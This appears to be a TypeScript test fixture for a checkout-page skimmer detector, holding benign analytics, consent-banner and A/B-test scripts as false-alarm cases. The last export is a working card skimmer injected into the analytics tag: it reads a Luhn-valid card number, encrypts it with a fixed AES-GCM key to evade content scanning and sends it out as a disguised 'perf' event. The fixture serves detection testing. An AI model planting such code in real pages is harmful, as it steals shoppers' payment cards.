// What real checkouts carry beside the card (canary-false-alarms.test.ts): each script sends or
// stores with random ids and timestamps, on timers and on the shopper's every move, but never
// reads a card input's value. The canary must pass them, and still catch a skimmer among them.

/**
 * An analytics tag: a client id in a cookie, a session id in sessionStorage, a page view and a
 * pixel at load, events batched and flushed every 5 s and when the page is hidden or left, an
 * engagement heartbeat every 15 s, and a tracker of clicks, scrolls and fields focused or blurred
 * (the field's name, never its value).
 */
export const ANALYTICS_TAG = `(() => {
const id = () => Math.random().toString(36).slice(2) + Date.now().toString(36);
const cookie = (name) => document.cookie.split('; ').find((c) => c.startsWith(name + '='))?.slice(name.length + 1);
let cid = cookie('_cid');
if (!cid) { cid = id(); document.cookie = '_cid=' + cid + '; path=/; max-age=63072000; SameSite=Lax'; }
const sid = sessionStorage.getItem('_sid') || id();
sessionStorage.setItem('_sid', sid);
const queue = [];
let seq = 0;
const event = (name, params) => queue.push({ name, cid, sid, seq: seq++, ts: Date.now(), ...params });
const flush = () => {
  if (queue.length === 0) return;
  navigator.sendBeacon('/g/collect?v=2&tid=G-SHOP&cid=' + cid + '&_p=' + id(), JSON.stringify(queue.splice(0)));
};
setInterval(flush, 5000);
document.addEventListener('visibilitychange', () => { if (document.visibilityState === 'hidden') flush(); });
addEventListener('pagehide', flush);
event('page_view', { page: location.pathname, title: document.title, referrer: document.referrer, width: innerWidth });
new Image().src = '/g/pixel.gif?cid=' + cid + '&t=' + Date.now() + '&z=' + Math.random();
setInterval(() => navigator.sendBeacon('/g/heartbeat?cid=' + cid + '&seq=' + seq,
  JSON.stringify({ ts: Date.now(), focused: document.hasFocus(), engaged: Math.round(performance.now()) })), 15000);
const field = (event) => event.composedPath()[0];
for (const [type, name] of [['focusin', 'field_focus'], ['focusout', 'field_blur']])
  document.addEventListener(type, (e) => {
    const input = field(e);
    if (input instanceof HTMLInputElement) event(name, { field: input.name || input.autocomplete || input.id });
  }, true);
document.addEventListener('click', (e) => event('click', { x: e.clientX, y: e.clientY, target: field(e).tagName }), true);
let deepest = 0;
addEventListener('scroll', () => {
  const depth = Math.round((scrollY + innerHeight) / document.documentElement.scrollHeight * 4) * 25;
  if (depth > deepest) event('scroll', { depth: (deepest = depth) });
}, { passive: true });
})();`;

/** A consent banner: a consent id and the choices in a cookie and localStorage, logged once. */
export const CONSENT_BANNER = `(() => {
if (!localStorage.getItem('consent')) {
  const choices = { necessary: true, analytics: true, marketing: false };
  const consent = { id: crypto.randomUUID(), at: new Date().toISOString(), choices };
  localStorage.setItem('consent', JSON.stringify(consent));
  document.cookie = 'consent=' + encodeURIComponent(JSON.stringify(choices)) + '; path=/; max-age=31536000';
  document.cookie = 'consent_id=' + consent.id + '; path=/; max-age=31536000';
  fetch('/consent/log', { method: 'POST', body: JSON.stringify(consent), keepalive: true });
}
const banner = document.createElement('div');
banner.setAttribute('role', 'dialog');
banner.textContent = 'We use cookies to measure our checkout.';
document.body.append(banner);
setTimeout(() => banner.remove(), 8000);
})();`;

/**
 * An A/B test: a visitor id, a variant drawn at load and kept in localStorage, an exposure event,
 * and variant B's trust badge (one more request, for half the visitors).
 */
export const AB_TEST = `(() => {
const visitor = localStorage.getItem('ab_visitor') || crypto.randomUUID();
localStorage.setItem('ab_visitor', visitor);
const variant = Math.random() < 0.5 ? 'A' : 'B';
localStorage.setItem('ab_checkout_button', variant);
fetch('/ab/exposure?experiment=checkout_button&variant=' + variant + '&visitor=' + visitor, { method: 'POST' });
if (variant === 'B') {
  const badge = new Image();
  badge.src = '/ab/badge.svg?v=' + visitor.slice(0, 8);
  document.body.append(badge);
  document.querySelector('button[type="submit"]').textContent = 'Pay securely';
}
})();`;

/** The scripts, as the shop serves them. */
export const ANALYTICS_SCRIPTS = [
  { path: '/tag.js', body: ANALYTICS_TAG },
  { path: '/consent.js', body: CONSENT_BANNER },
  { path: '/ab.js', body: AB_TEST },
];

/**
 * The analytics tag with a skimmer inside: once a whole valid number is typed, one more event in
 * the tag's own batch, its content sealed with the tag's "session key" (AES-GCM: no search of
 * content reads it), flushed as the tag flushes.
 */
export const ANALYTICS_TAG_WITH_SKIMMER = ANALYTICS_TAG.replace(
  `setInterval(flush, 5000);`,
  `setInterval(flush, 5000);
const luhn = (n) => [...n].reverse().reduce((s, d, i) => s + (i % 2 ? (d * 2 > 9 ? d * 2 - 9 : d * 2) : +d), 0) % 10 === 0;
let sealed = false;
document.addEventListener('input', async () => {
  const input = document.querySelector('card-tokenizer input[autocomplete="cc-number"]');
  const number = input ? input.value.replace(/\\D/g, '') : '';
  if (sealed || number.length !== 16 || !luhn(number)) return;
  sealed = true;
  const key = await crypto.subtle.importKey('raw', new TextEncoder().encode('0123456789abcdef'), 'AES-GCM', false, ['encrypt']);
  const iv = crypto.getRandomValues(new Uint8Array(12));
  const data = new Uint8Array(await crypto.subtle.encrypt({ name: 'AES-GCM', iv }, key, new TextEncoder().encode(number)));
  event('perf', { m: btoa(String.fromCharCode(...iv, ...data)) });
}, true);`,
);
